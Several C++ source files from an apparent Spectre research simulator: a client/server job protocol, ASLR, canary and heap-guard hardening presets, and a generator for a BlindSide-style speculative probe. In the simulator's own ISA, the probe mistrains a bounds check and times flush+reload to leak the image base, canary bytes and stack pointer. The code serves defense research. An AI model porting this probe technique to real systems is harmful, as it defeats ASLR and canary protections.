// spec), except the Result frame which carries the batch-identical result
// bytes raw after a `bytes=K` length line.
//
// Conversation:
//   client  SUBMIT{job spec}  -> server ACCEPTED{id} | REJECTED{id,reason}
//   server  PROGRESS{id,counters}...           (streamed while running)
//   server  RESULT{id,status,payload}          (terminal, exactly once
//                                               per accepted job)
//   client  CANCEL{id}        -> job stops at its next progress boundary,
//                                RESULT arrives with status=cancelled
//   client  PING{}            -> server PONG{} (liveness probe)
//   client  SHUTDOWN{}        -> server stops accepting, drains, exits
//   server  ERROR{detail}     (protocol-level complaint, connection closes)
#pragma once

#include <cstdint>
#include <optional>
#include <string>
#include <string_view>

#include "core/job.hpp"

namespace crs::serve {

enum class FrameType : std::uint8_t {
  kSubmit = 1,
  kAccepted = 2,
  kRejected = 3,
  kProgress = 4,
  kResult = 5,
  kCancel = 6,
  kShutdown = 7,
  kPing = 8,
  kPong = 9,
  kError = 10,
};

std::string frame_type_name(FrameType type);
bool frame_type_valid(std::uint8_t raw);

inline constexpr char kFrameMagic[4] = {'C', 'R', 'S', 'V'};
inline constexpr std::size_t kFrameHeaderSize = 12;
/// Hard payload cap (16 MiB): large enough for any matrix CSV or fuzz
/// program, small enough that a hostile length field cannot balloon memory.
inline constexpr std::uint32_t kMaxFramePayload = 16u << 20;

struct Frame {
  FrameType type = FrameType::kError;
  std::string payload;
};

/// Header + payload bytes, ready for Socket::send_all.
std::string encode_frame(FrameType type, std::string_view payload);

/// Incremental frame parser. feed() arbitrary byte chunks, then drain
/// next() until it returns nullopt. Throws crs::Error the moment the
/// stream is provably malformed.
class FrameDecoder {
 public:
  void feed(const void* data, std::size_t len);
  std::optional<Frame> next();

  /// Bytes buffered but not yet consumed by complete frames.
  std::size_t buffered() const { return buf_.size(); }

 private:
  std::string buf_;
};

// --- Typed payloads -------------------------------------------------------

struct AcceptedPayload {
  std::uint64_t id = 0;
};

struct RejectedPayload {
  std::uint64_t id = 0;
  /// queue_full | bad_request | shutting_down
  std::string reason;
  std::string detail;  ///< human-readable amplification (may be empty)
};

struct ProgressPayload {
  std::uint64_t id = 0;
  core::JobProgress progress;
};

struct ResultPayload {
  std::uint64_t id = 0;
  /// ok | cancelled | failed. `failed` means the job was accepted but its
  /// execution threw (e.g. a config the strict parser allows but the
  /// runtime rejects); the payload then carries the error text.
  std::string status = "ok";
  /// Batch-identical result bytes (ok), error text (failed), empty
  /// (cancelled).
  std::string payload;

  bool ok() const { return status == "ok"; }
  bool cancelled() const { return status == "cancelled"; }
};

std::string encode_accepted(const AcceptedPayload& p);
std::string encode_rejected(const RejectedPayload& p);
std::string encode_progress(const ProgressPayload& p);
std::string encode_result(const ResultPayload& p);

/// All parsers are strict inverses; they throw crs::Error on anything
/// malformed or missing.
AcceptedPayload parse_accepted(std::string_view payload);
RejectedPayload parse_rejected(std::string_view payload);
ProgressPayload parse_progress(std::string_view payload);
ResultPayload parse_result(std::string_view payload);

}  // namespace crs::serve
