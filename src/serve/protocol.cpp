#include "serve/protocol.hpp"

#include <cstdlib>
#include <cstring>
#include <map>

#include "support/error.hpp"

namespace crs::serve {

namespace {

std::uint64_t parse_u64_field(const std::string& key, const std::string& v) {
  char* end = nullptr;
  const std::uint64_t out = std::strtoull(v.c_str(), &end, 10);
  if (end == v.c_str() || *end != '\0') {
    throw Error("frame payload: " + key + " wants an integer, got '" + v +
                "'");
  }
  return out;
}

/// Parses `key=value` lines from the front of `payload` until `stop_after`
/// keys (or the whole payload when 0); returns the map and the offset one
/// past the last consumed newline.
std::map<std::string, std::string> parse_kv(std::string_view payload,
                                            std::size_t* end_offset = nullptr,
                                            std::size_t stop_after = 0) {
  std::map<std::string, std::string> out;
  std::size_t pos = 0;
  while (pos < payload.size()) {
    const std::size_t nl = payload.find('\n', pos);
    if (nl == std::string_view::npos) {
      throw Error("frame payload: unterminated line");
    }
    const std::string_view line = payload.substr(pos, nl - pos);
    pos = nl + 1;
    if (line.empty()) continue;
    const std::size_t eq = line.find('=');
    if (eq == std::string_view::npos) {
      throw Error("frame payload: malformed line '" + std::string(line) +
                  "'");
    }
    out.emplace(std::string(line.substr(0, eq)),
                std::string(line.substr(eq + 1)));
    if (stop_after != 0 && out.size() == stop_after) break;
  }
  if (end_offset != nullptr) *end_offset = pos;
  return out;
}

const std::string& want(const std::map<std::string, std::string>& kv,
                        const std::string& key) {
  const auto it = kv.find(key);
  if (it == kv.end()) throw Error("frame payload: missing " + key);
  return it->second;
}

}  // namespace

std::string frame_type_name(FrameType type) {
  switch (type) {
    case FrameType::kSubmit:
      return "submit";
    case FrameType::kAccepted:
      return "accepted";
    case FrameType::kRejected:
      return "rejected";
    case FrameType::kProgress:
      return "progress";
    case FrameType::kResult:
      return "result";
    case FrameType::kCancel:
      return "cancel";
    case FrameType::kShutdown:
      return "shutdown";
    case FrameType::kPing:
      return "ping";
    case FrameType::kPong:
      return "pong";
    case FrameType::kError:
      return "error";
  }
  return "unknown";
}

bool frame_type_valid(std::uint8_t raw) {
  return raw >= static_cast<std::uint8_t>(FrameType::kSubmit) &&
         raw <= static_cast<std::uint8_t>(FrameType::kError);
}

std::string encode_frame(FrameType type, std::string_view payload) {
  CRS_ENSURE(payload.size() <= kMaxFramePayload,
             "frame payload exceeds " + std::to_string(kMaxFramePayload) +
                 " bytes");
  std::string out;
  out.reserve(kFrameHeaderSize + payload.size());
  out.append(kFrameMagic, sizeof kFrameMagic);
  out.push_back(static_cast<char>(type));
  out.append(3, '\0');
  const auto len = static_cast<std::uint32_t>(payload.size());
  out.push_back(static_cast<char>(len & 0xFF));
  out.push_back(static_cast<char>((len >> 8) & 0xFF));
  out.push_back(static_cast<char>((len >> 16) & 0xFF));
  out.push_back(static_cast<char>((len >> 24) & 0xFF));
  out.append(payload);
  return out;
}

void FrameDecoder::feed(const void* data, std::size_t len) {
  buf_.append(static_cast<const char*>(data), len);
}

std::optional<Frame> FrameDecoder::next() {
  if (buf_.size() < kFrameHeaderSize) return std::nullopt;
  if (std::memcmp(buf_.data(), kFrameMagic, sizeof kFrameMagic) != 0) {
    throw Error("frame decoder: bad magic");
  }
  const auto raw_type = static_cast<std::uint8_t>(buf_[4]);
  if (!frame_type_valid(raw_type)) {
    throw Error("frame decoder: unknown frame type " +
                std::to_string(raw_type));
  }
  if (buf_[5] != 0 || buf_[6] != 0 || buf_[7] != 0) {
    throw Error("frame decoder: nonzero reserved bytes");
  }
  const auto b = [&](std::size_t i) {
    return static_cast<std::uint32_t>(static_cast<std::uint8_t>(buf_[i]));
  };
  const std::uint32_t len = b(8) | (b(9) << 8) | (b(10) << 16) | (b(11) << 24);
  if (len > kMaxFramePayload) {
    throw Error("frame decoder: payload length " + std::to_string(len) +
                " exceeds cap");
  }
  if (buf_.size() < kFrameHeaderSize + len) return std::nullopt;

  Frame frame;
  frame.type = static_cast<FrameType>(raw_type);
  frame.payload = buf_.substr(kFrameHeaderSize, len);
  buf_.erase(0, kFrameHeaderSize + len);
  return frame;
}

// --- Typed payloads -------------------------------------------------------

std::string encode_accepted(const AcceptedPayload& p) {
  return "id=" + std::to_string(p.id) + "\n";
}

std::string encode_rejected(const RejectedPayload& p) {
  std::string out = "id=" + std::to_string(p.id) + "\n";
  out += "reason=" + p.reason + "\n";
  if (!p.detail.empty()) {
    // Detail is free text off an error message; keep it one line.
    std::string one_line = p.detail;
    for (char& c : one_line) {
      if (c == '\n') c = ' ';
    }
    out += "detail=" + one_line + "\n";
  }
  return out;
}

std::string encode_progress(const ProgressPayload& p) {
  std::string out = "id=" + std::to_string(p.id) + "\n";
  out += "done=" + std::to_string(p.progress.done) + "\n";
  out += "total=" + std::to_string(p.progress.total) + "\n";
  out += "leaks=" + std::to_string(p.progress.leaks) + "\n";
  out += "sim_cycles=" + std::to_string(p.progress.sim_cycles) + "\n";
  return out;
}

std::string encode_result(const ResultPayload& p) {
  std::string out = "id=" + std::to_string(p.id) + "\n";
  out += "status=" + p.status + "\n";
  out += "bytes=" + std::to_string(p.payload.size()) + "\n";
  out += p.payload;
  return out;
}

AcceptedPayload parse_accepted(std::string_view payload) {
  const auto kv = parse_kv(payload);
  return {.id = parse_u64_field("id", want(kv, "id"))};
}

RejectedPayload parse_rejected(std::string_view payload) {
  const auto kv = parse_kv(payload);
  RejectedPayload p;
  p.id = parse_u64_field("id", want(kv, "id"));
  p.reason = want(kv, "reason");
  if (const auto it = kv.find("detail"); it != kv.end()) p.detail = it->second;
  return p;
}

ProgressPayload parse_progress(std::string_view payload) {
  const auto kv = parse_kv(payload);
  ProgressPayload p;
  p.id = parse_u64_field("id", want(kv, "id"));
  p.progress.done = parse_u64_field("done", want(kv, "done"));
  p.progress.total = parse_u64_field("total", want(kv, "total"));
  p.progress.leaks = parse_u64_field("leaks", want(kv, "leaks"));
  p.progress.sim_cycles =
      parse_u64_field("sim_cycles", want(kv, "sim_cycles"));
  return p;
}

ResultPayload parse_result(std::string_view payload) {
  std::size_t body = 0;
  const auto kv = parse_kv(payload, &body, 3);
  ResultPayload p;
  p.id = parse_u64_field("id", want(kv, "id"));
  p.status = want(kv, "status");
  if (p.status != "ok" && p.status != "cancelled" && p.status != "failed") {
    throw Error("result frame: unknown status '" + p.status + "'");
  }
  const std::uint64_t bytes = parse_u64_field("bytes", want(kv, "bytes"));
  if (payload.size() - body != bytes) {
    throw Error("result frame: bytes=" + std::to_string(bytes) + " but " +
                std::to_string(payload.size() - body) + " remain");
  }
  p.payload = std::string(payload.substr(body));
  return p;
}

}  // namespace crs::serve
