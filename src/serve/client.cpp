#include "serve/client.hpp"

#include "support/error.hpp"

namespace crs::serve {

Client Client::connect_unix(const std::string& path) {
  return Client(crs::connect_unix(path));
}

Client Client::connect_tcp(std::uint16_t port) {
  return Client(connect_tcp_loopback(port));
}

void Client::submit(const core::JobSpec& spec) {
  const std::string frame =
      encode_frame(FrameType::kSubmit, core::serialize_job(spec));
  sock_.send_all(frame.data(), frame.size());
}

void Client::cancel(std::uint64_t id) {
  const std::string frame =
      encode_frame(FrameType::kCancel, encode_accepted({.id = id}));
  sock_.send_all(frame.data(), frame.size());
}

void Client::ping() {
  const std::string frame = encode_frame(FrameType::kPing, "");
  sock_.send_all(frame.data(), frame.size());
}

void Client::request_shutdown() {
  const std::string frame = encode_frame(FrameType::kShutdown, "");
  sock_.send_all(frame.data(), frame.size());
}

Client::Event Client::next_event() {
  while (true) {
    if (auto frame = decoder_.next()) {
      Event ev;
      ev.type = frame->type;
      switch (frame->type) {
        case FrameType::kAccepted: {
          ev.id = parse_accepted(frame->payload).id;
          break;
        }
        case FrameType::kRejected: {
          const RejectedPayload p = parse_rejected(frame->payload);
          ev.id = p.id;
          ev.reason = p.reason;
          ev.detail = p.detail;
          break;
        }
        case FrameType::kProgress: {
          const ProgressPayload p = parse_progress(frame->payload);
          ev.id = p.id;
          ev.progress = p.progress;
          break;
        }
        case FrameType::kResult: {
          ResultPayload p = parse_result(frame->payload);
          ev.id = p.id;
          ev.status = p.status;
          ev.payload = std::move(p.payload);
          break;
        }
        case FrameType::kPong:
        case FrameType::kError:
          ev.payload = frame->payload;
          break;
        default:
          throw Error("client: unexpected " + frame_type_name(frame->type) +
                      " frame from server");
      }
      return ev;
    }
    char buf[4096];
    const std::size_t n = sock_.recv_some(buf, sizeof buf);
    if (n == 0) throw Error("client: server closed the connection");
    decoder_.feed(buf, n);
  }
}

Client::JobResult Client::await_result(std::uint64_t id) {
  JobResult result;
  while (true) {
    const Event ev = next_event();
    if (ev.type == FrameType::kError) {
      throw Error("client: server error: " + ev.payload);
    }
    if (ev.id != id) continue;
    switch (ev.type) {
      case FrameType::kAccepted:
        result.accepted = true;
        break;
      case FrameType::kRejected:
        result.accepted = false;
        result.reject_reason = ev.reason;
        result.reject_detail = ev.detail;
        return result;
      case FrameType::kProgress:
        result.progress.push_back(ev.progress);
        break;
      case FrameType::kResult:
        result.status = ev.status;
        result.payload = ev.payload;
        return result;
      default:
        break;
    }
  }
}

Client::JobResult Client::run(const core::JobSpec& spec) {
  submit(spec);
  return await_result(spec.id);
}

}  // namespace crs::serve
