#include "harden/probe.hpp"

#include "casm/assembler.hpp"
#include "casm/runtime.hpp"
#include "sim/memory.hpp"
#include "support/error.hpp"

namespace crs::harden {

namespace {

std::string num(std::uint64_t v) { return std::to_string(v); }

/// The probe's transient-dereference gadget: identical shape to the
/// Spectre-PHT victim, but the out-of-bounds index is an arbitrary address
/// candidate — possibly unmapped, in which case the wrong path squashes
/// silently instead of crashing the process (the whole point of probing
/// speculatively).
std::string probe_victim_source() {
  std::string s;
  s += "probe_victim:\n";
  s += "    movi r4, array1_size\n";
  s += "    load r4, [r4]\n";
  s += "    cmpltu r5, r1, r4\n";
  s += "    beqz r5, probe_victim_done\n";
  s += "    movi r6, array1\n";
  s += "    add r6, r6, r1\n";
  s += "    loadb r7, [r6]\n";  // candidate dereference (fault ⇒ squash)
  s += "    muli r7, r7, 64\n";
  s += "    movi r8, probe\n";
  s += "    add r8, r8, r7\n";
  s += "    loadb r9, [r8]\n";
  s += "probe_victim_done:\n";
  s += "    ret\n";
  return s;
}

/// Mistrain the probe_victim bounds check toward "in bounds".
std::string train_block(const ProbeConfig& c, const std::string& label) {
  std::string s;
  s += "    movi r13, " + num(c.train_iterations) + "\n";
  s += label + ":\n";
  s += "    movi r1, 1\n";
  s += "    call probe_victim\n";
  s += "    addi r13, r13, -1\n";
  s += "    bnez r13, " + label + "\n";
  return s;
}

/// Timed flush+reload of one probe line; falls through when hot, branches
/// to `miss_label` when cold.
std::string reload_check(const ProbeConfig& c, std::uint8_t byte,
                         const std::string& miss_label) {
  std::string s;
  s += "    movi r6, probe\n";
  s += "    movi r7, " + num(static_cast<std::uint64_t>(byte) * 64) + "\n";
  s += "    add r6, r6, r7\n";
  s += "    mfence\n";
  s += "    rdcycle r2\n";
  s += "    loadb r7, [r6]\n";
  s += "    mov r12, r7\n";  // data dependency for the fence
  s += "    mfence\n";
  s += "    rdcycle r3\n";
  s += "    sub r2, r3, r2\n";
  s += "    movi r7, " + num(c.threshold) + "\n";
  s += "    cmplt r7, r2, r7\n";
  s += "    beqz r7, " + miss_label + "\n";
  return s;
}

}  // namespace

std::string generate_probe_source(const ProbeConfig& c) {
  CRS_ENSURE(c.witness_addr[0] != 0 && c.witness_addr[1] != 0,
             "probe witness addresses not set");
  CRS_ENSURE(c.witness_byte[0] != c.witness_byte[1],
             "probe witnesses must have distinct byte values");
  CRS_ENSURE(c.witness_byte[0] != 1 && c.witness_byte[1] != 1,
             "probe line 1 is polluted by mistraining");
  CRS_ENSURE(c.scan_range >= c.page_size && c.page_size > 0,
             "probe scan range must cover at least one candidate");
  CRS_ENSURE(c.train_iterations > 0, "train_iterations must be positive");

  std::string s;
  s += "; speculative layout probe (BlindSide-style leak stage)\n";
  s += ".org " + num(c.link_base) + "\n";
  s += ".entry _start\n";
  s += "_start:\n";
  // Stage 3 first (it is free): the hijacked entry runs in the victim's
  // context, so our entry sp IS the victim's randomized stack pointer.
  s += "    mov r4, sp\n";
  s += "    movi r5, leak_sp\n";
  s += "    store [r5], r4\n";
  // Not-found sentinel for the base scan.
  s += "    movi r4, leak_delta\n";
  s += "    movi r5, 0\n";
  s += "    addi r5, r5, -1\n";
  s += "    store [r4], r5\n";

  // ---- stage 1: transient image-base scan ----
  s += "    movi r14, 0\n";  // candidate delta
  s += "scan_loop:\n";
  s += train_block(c, "scan_train");
  for (int w = 0; w < 2; ++w) {
    // Flush this witness's probe line, delay the bounds resolution, then
    // one transient dereference of (witness link address + candidate).
    s += "    movi r5, probe\n";
    s += "    movi r6, " +
         num(static_cast<std::uint64_t>(c.witness_byte[w]) * 64) + "\n";
    s += "    add r5, r5, r6\n";
    s += "    clflush [r5]\n";
    s += "    movi r4, array1_size\n";
    s += "    clflush [r4]\n";
    s += "    mfence\n";
    s += "    movi r1, " + num(c.witness_addr[w]) + "\n";
    s += "    add r1, r1, r14\n";
    s += "    movi r2, array1\n";
    s += "    sub r1, r1, r2\n";
    s += "    call probe_victim\n";
  }
  // Both witness lines must be hot for a match.
  s += reload_check(c, c.witness_byte[0], "scan_next");
  s += reload_check(c, c.witness_byte[1], "scan_next");
  s += "    movi r4, leak_delta\n";
  s += "    store [r4], r14\n";
  s += "    jmp scan_done\n";
  s += "scan_next:\n";
  s += "    movi r7, " + num(c.page_size) + "\n";
  s += "    add r14, r14, r7\n";
  s += "    movi r7, " + num(c.scan_range) + "\n";
  s += "    cmpltu r7, r14, r7\n";
  s += "    bnez r7, scan_loop\n";
  s += "scan_done:\n";

  // ---- stage 2: canary byte leak at the derandomized address ----
  if (c.canary_addr != 0) {
    s += "    movi r14, 0\n";  // canary byte index
    s += "canary_loop:\n";
    s += train_block(c, "canary_train");
    s += "    movi r5, probe\n";
    s += "    movi r6, 256\n";
    s += "canary_flush:\n";
    s += "    clflush [r5]\n";
    s += "    addi r5, r5, 64\n";
    s += "    addi r6, r6, -1\n";
    s += "    bnez r6, canary_flush\n";
    s += "    movi r4, array1_size\n";
    s += "    clflush [r4]\n";
    s += "    mfence\n";
    s += "    movi r1, " + num(c.canary_addr) + "\n";
    s += "    movi r4, leak_delta\n";
    s += "    load r4, [r4]\n";
    s += "    add r1, r1, r4\n";
    s += "    add r1, r1, r14\n";
    s += "    movi r2, array1\n";
    s += "    sub r1, r1, r2\n";
    s += "    call probe_victim\n";
    // Min-latency scan over all 256 lines names the byte.
    s += "    movi r5, 0\n";
    s += "    movi r10, 100000\n";
    s += "    movi r11, 0\n";
    s += "canary_probe:\n";
    s += "    muli r6, r5, 64\n";
    s += "    movi r7, probe\n";
    s += "    add r6, r7, r6\n";
    s += "    mfence\n";
    s += "    rdcycle r2\n";
    s += "    loadb r7, [r6]\n";
    s += "    mov r12, r7\n";
    s += "    mfence\n";
    s += "    rdcycle r3\n";
    s += "    sub r2, r3, r2\n";
    s += "    cmplt r7, r2, r10\n";
    s += "    beqz r7, canary_next\n";
    s += "    mov r10, r2\n";
    s += "    mov r11, r5\n";
    s += "canary_next:\n";
    s += "    addi r5, r5, 1\n";
    s += "    movi r7, 256\n";
    s += "    cmpltu r7, r5, r7\n";
    s += "    bnez r7, canary_probe\n";
    s += "    movi r6, leak_canary_buf\n";
    s += "    add r6, r6, r14\n";
    s += "    storeb [r6], r11\n";
    s += "    addi r14, r14, 1\n";
    s += "    movi r7, 8\n";
    s += "    cmpltu r7, r14, r7\n";
    s += "    bnez r7, canary_loop\n";
  }

  // ---- exfiltrate the fixed {delta, canary, sp} record ----
  s += "    movi r4, leak_delta\n";
  s += "    load r5, [r4]\n";
  s += "    movi r4, leak_record\n";
  s += "    store [r4], r5\n";
  s += "    movi r6, leak_canary_buf\n";
  s += "    load r5, [r6]\n";
  s += "    movi r4, leak_record\n";
  s += "    addi r4, r4, 8\n";
  s += "    store [r4], r5\n";
  s += "    movi r6, leak_sp\n";
  s += "    load r5, [r6]\n";
  s += "    movi r4, leak_record\n";
  s += "    addi r4, r4, 16\n";
  s += "    store [r4], r5\n";
  s += "    movi r1, leak_record\n";
  s += "    movi r2, 24\n";
  s += "    call print\n";
  s += "    movi r1, 0\n";
  s += "    call exit_\n";

  s += probe_victim_source();

  s += ".data\n";
  s += "array1_size: .word 8\n";
  s += "array1: .byte 0, 1, 2, 3, 4, 5, 6, 7\n";
  s += ".align 64\n";
  s += "probe: .space 16384\n";
  s += ".align 64\n";
  s += "leak_delta: .word 0\n";
  s += "leak_canary_buf: .word 0\n";
  s += "leak_sp: .word 0\n";
  s += "leak_record: .space 24\n";
  return s;
}

sim::Program build_probe_binary(const ProbeConfig& c) {
  casm::AssembleOptions opt;
  opt.name = c.name;
  opt.link_base = c.link_base;
  return casm::assemble(generate_probe_source(c) + casm::runtime_library(),
                        opt);
}

ProbeConfig probe_config_for(const sim::Program& victim,
                             const sim::KernelConfig& kernel,
                             bool leak_canary) {
  ProbeConfig c;
  c.page_size = sim::Memory::kPageSize;
  c.scan_range = kernel.aslr ? kernel.aslr_range : c.page_size;
  c.train_iterations = 8;

  const auto canary_sym = victim.symbols.find("__canary");
  if (leak_canary && canary_sym != victim.symbols.end()) {
    c.canary_addr = canary_sym->second;
  }

  // Witness bytes: two distinct nonzero code bytes of the public image,
  // ≥ 64 bytes apart, from spans no relocation rewrites (relocated bytes
  // differ between the static image the attacker has and the loaded one).
  int found = 0;
  for (std::size_t si = 0; si < victim.segments.size() && found < 2; ++si) {
    const sim::Segment& seg = victim.segments[si];
    if ((seg.perm & sim::kPermExec) == 0) continue;
    const auto relocated = [&](std::uint64_t off) {
      for (const sim::Relocation& rel : victim.relocations) {
        if (rel.segment != si) continue;
        const std::uint64_t width =
            rel.kind == sim::RelocKind::kImm32 ? 4 : 8;
        if (off >= rel.offset && off < rel.offset + width) return true;
      }
      return false;
    };
    for (std::uint64_t off = 0; off < seg.bytes.size() && found < 2; ++off) {
      const std::uint8_t b = seg.bytes[off];
      // Value 1 is the mistraining index: its probe line is hot from the
      // train loop itself, so it can never serve as a witness.
      if (b == 0 || b == 1 || relocated(off)) continue;
      if (found == 1) {
        if (b == c.witness_byte[0]) continue;
        if (seg.addr + off < c.witness_addr[0] + 64) continue;
      }
      c.witness_addr[found] = seg.addr + off;
      c.witness_byte[found] = b;
      ++found;
    }
  }
  CRS_ENSURE(found == 2, "probe_config_for: victim image '" + victim.name +
                             "' has too few witness bytes");
  return c;
}

ProbeLeak parse_probe_output(const std::vector<std::uint8_t>& output) {
  ProbeLeak leak;
  if (output.size() < 24) return leak;
  const auto u64_at = [&](std::size_t off) {
    std::uint64_t v = 0;
    for (int i = 7; i >= 0; --i) v = (v << 8) | output[off + static_cast<std::size_t>(i)];
    return v;
  };
  leak.base_delta = u64_at(0);
  leak.canary = u64_at(8);
  leak.stack_pointer = u64_at(16);
  leak.found_base = leak.base_delta != ~0ull;
  return leak;
}

}  // namespace crs::harden
