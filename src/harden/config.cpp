#include "harden/config.hpp"

#include "obs/metrics.hpp"
#include "support/error.hpp"
#include "support/strings.hpp"

namespace crs::harden {

namespace {

struct FlagSpec {
  const char* token;
  bool HardenConfig::* member;
};

constexpr FlagSpec kFlags[] = {
    {"aslr", &HardenConfig::aslr},
    {"canary", &HardenConfig::canary},
    {"heap-guard", &HardenConfig::heap_guard},
};

struct PresetSpec {
  const char* name;
  HardenConfig config;
};

const std::vector<PresetSpec>& presets() {
  static const std::vector<PresetSpec> kPresets = [] {
    std::vector<PresetSpec> p;
    p.push_back({"none", {}});
    {
      HardenConfig c;
      c.aslr = true;
      p.push_back({"aslr", c});
    }
    {
      HardenConfig c;
      c.canary = true;
      p.push_back({"canary", c});
    }
    {
      HardenConfig c;
      c.heap_guard = true;
      p.push_back({"heap-guard", c});
    }
    {
      HardenConfig c;
      for (const auto& f : kFlags) c.*(f.member) = true;
      p.push_back({"full", c});
    }
    return p;
  }();
  return kPresets;
}

std::string valid_tokens_message() {
  std::string msg = "valid presets: ";
  for (std::size_t i = 0; i < presets().size(); ++i) {
    if (i != 0) msg += ", ";
    msg += presets()[i].name;
  }
  msg += "; valid flags: ";
  for (std::size_t i = 0; i < std::size(kFlags); ++i) {
    if (i != 0) msg += ", ";
    msg += kFlags[i].token;
  }
  return msg;
}

}  // namespace

bool HardenConfig::any() const {
  for (const auto& f : kFlags) {
    if (this->*(f.member)) return true;
  }
  return false;
}

std::string HardenConfig::serialize() const {
  for (const auto& p : presets()) {
    if (p.config == *this) return p.name;
  }
  std::string out;
  for (const auto& f : kFlags) {
    if (!(this->*(f.member))) continue;
    if (!out.empty()) out += ',';
    out += f.token;
  }
  return out.empty() ? "none" : out;
}

HardenConfig HardenConfig::parse(const std::string& text) {
  const std::string trimmed{trim(text)};
  for (const auto& p : presets()) {
    if (trimmed == p.name) return p.config;
  }
  HardenConfig config;
  for (const std::string& raw : split(trimmed, ',')) {
    const std::string token{trim(raw)};
    bool known = false;
    for (const auto& f : kFlags) {
      if (token == f.token) {
        config.*(f.member) = true;
        known = true;
        break;
      }
    }
    if (!known) {
      throw Error("unknown hardening '" + token + "' (" +
                  valid_tokens_message() + ")");
    }
  }
  return config;
}

void HardenConfig::apply(sim::KernelConfig& kernel) const {
  if (aslr) {
    kernel.aslr = true;
    kernel.aslr_stack = true;
  }
  if (heap_guard) kernel.heap_guard = true;
}

const std::vector<std::string>& preset_names() {
  static const std::vector<std::string> kNames = [] {
    std::vector<std::string> names;
    for (const auto& p : presets()) names.emplace_back(p.name);
    return names;
  }();
  return kNames;
}

HardenConfig preset(const std::string& name) {
  for (const auto& p : presets()) {
    if (name == p.name) return p.config;
  }
  throw Error("unknown hardening preset '" + name + "' (" +
              valid_tokens_message() + ")");
}

const std::vector<HardenSummaryField>& summary_fields() {
  static const std::vector<HardenSummaryField> kFields = {
      {"aslr.images_randomized", &HardenSummary::images_randomized},
      {"aslr.stacks_randomized", &HardenSummary::stacks_randomized},
      {"canary.planted", &HardenSummary::canaries_planted},
      {"canary.aborts", &HardenSummary::canary_aborts},
      {"heap.allocs", &HardenSummary::heap_allocs},
      {"heap.frees", &HardenSummary::heap_frees},
      {"heap.redzone_bytes_checked", &HardenSummary::redzone_bytes_checked},
      {"heap.redzone_violations", &HardenSummary::redzone_violations},
  };
  return kFields;
}

void accumulate(HardenSummary& into, const HardenSummary& from) {
  for (const HardenSummaryField& f : summary_fields()) {
    into.*(f.member) += from.*(f.member);
  }
}

std::uint64_t HardenSummary::total_events() const {
  std::uint64_t total = 0;
  for (const HardenSummaryField& f : summary_fields()) {
    total += this->*(f.member);
  }
  return total;
}

void HardenSummary::publish(const std::string& prefix) const {
  if constexpr (!obs::kEnabled) return;
  auto& reg = obs::MetricsRegistry::instance();
  for (const HardenSummaryField& f : summary_fields()) {
    reg.counter(prefix + "." + f.name).add(this->*(f.member));
  }
}

HardenSummary summarize(const sim::Kernel& kernel,
                        const HardenConfig& config) {
  const sim::KernelHardenStats& k = kernel.harden_stats();
  HardenSummary s;
  if (config.aslr) {
    s.images_randomized = k.images_randomized;
    s.stacks_randomized = k.stacks_randomized;
  }
  if (config.canary) {
    s.canaries_planted = k.canaries_planted;
    s.canary_aborts = k.canary_aborts;
  }
  if (config.heap_guard) {
    s.heap_allocs = k.heap_allocs;
    s.heap_frees = k.heap_frees;
    s.redzone_bytes_checked = k.redzone_bytes_checked;
    s.redzone_violations = k.redzone_violations;
  }
  return s;
}

}  // namespace crs::harden
