// Host hardening layer (the defenses CR-Spectre's injection must defeat).
//
// The mitigation library (src/mitigate) models *speculation* defenses; this
// library models the classic *memory-safety* hardening a real host stacks
// underneath them — the layers the paper's stack-overflow injection assumes
// absent, and the layers speculative probing (Mambretti et al.) and Spectre
// 1.1 store overflows (Kiriansky & Waldspurger) were built to pierce:
//
//  * aslr       — per-run randomized image AND stack bases, drawn from the
//                 kernel RNG (seeded ⇒ deterministic per scenario seed).
//                 Absolute gadget addresses and the overflow target move
//                 every attempt.
//  * canary     — stack canaries: the workload scaffold plants the kernel's
//                 per-run `__canary` value below the return slot at frame
//                 setup and checks it before returning; a mismatch aborts
//                 the process (FaultKind::kStackCanary) before the ROP
//                 chain's first gadget runs.
//  * heap-guard — guarded bump/free-list heap: SYS_HEAP_ALLOC surrounds
//                 every chunk with pattern-filled redzones and SYS_HEAP_FREE
//                 verifies them, faulting on a torn redzone
//                 (FaultKind::kHeapRedzone).
//
// HardenConfig mirrors MitigationConfig exactly: a plain flag set with named
// presets {none, aslr, canary, heap-guard, full}, a parse/serialize
// round-trip, and an `apply` lowering onto sim::KernelConfig. The summary
// side folds sim::KernelHardenStats, masked by the active flags so a
// hardened-off run reports zero engagement.
//
// Determinism contract: every randomized quantity is drawn from the kernel
// RNG in a FIXED order per run — [stack delta][image delta][canary value] —
// so the same scenario seed rebuilds the same layout on any thread count,
// snapshot on/off, and either exec engine; and the leak-stage probe pass
// (src/harden/probe.*) replays the identical stream before the exploit pass.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "sim/kernel.hpp"

namespace crs::harden {

struct HardenConfig {
  bool aslr = false;        ///< randomized image + stack bases
  bool canary = false;      ///< stack canary plant + return check
  bool heap_guard = false;  ///< redzone-guarded heap

  bool operator==(const HardenConfig&) const = default;

  /// True when at least one hardening layer is on.
  bool any() const;

  /// Canonical text form: the preset name when the flag set matches one
  /// exactly, otherwise a comma-joined flag list ("aslr,canary"). The empty
  /// set serializes to "none".
  std::string serialize() const;

  /// Inverse of serialize: accepts a preset name or a comma-joined flag
  /// list. Throws crs::Error listing the valid presets and flags on any
  /// unknown token.
  static HardenConfig parse(const std::string& text);

  /// Lowers the flags onto the kernel config (aslr → image + stack base
  /// randomization, heap_guard → redzone checks). The canary flag has no
  /// kernel knob: it selects the canary-checking workload scaffold, which
  /// core::ScenarioSession wires through WorkloadOptions. Call before
  /// constructing the Kernel.
  void apply(sim::KernelConfig& kernel) const;
};

/// Named presets, in display order: none, aslr, canary, heap-guard, full.
const std::vector<std::string>& preset_names();

/// Flag set of a named preset; throws crs::Error (listing valid names) for
/// an unknown one.
HardenConfig preset(const std::string& name);

/// What the hardening layers did in one run — sim::KernelHardenStats masked
/// by the flags that are actually on, so "did the defense engage" reads
/// zero under the none preset even though the loader always plants a canary
/// value for images that declare one.
struct HardenSummary {
  std::uint64_t images_randomized = 0;
  std::uint64_t stacks_randomized = 0;
  std::uint64_t canaries_planted = 0;
  std::uint64_t canary_aborts = 0;
  std::uint64_t heap_allocs = 0;
  std::uint64_t heap_frees = 0;
  std::uint64_t redzone_bytes_checked = 0;
  std::uint64_t redzone_violations = 0;

  /// Total hardening activity — the sweep's "did the defense engage" column.
  std::uint64_t total_events() const;

  /// Adds every field into the MetricsRegistry under `<prefix>.*` (no-op
  /// when CRS_OBS_ENABLED is 0).
  void publish(const std::string& prefix) const;
};

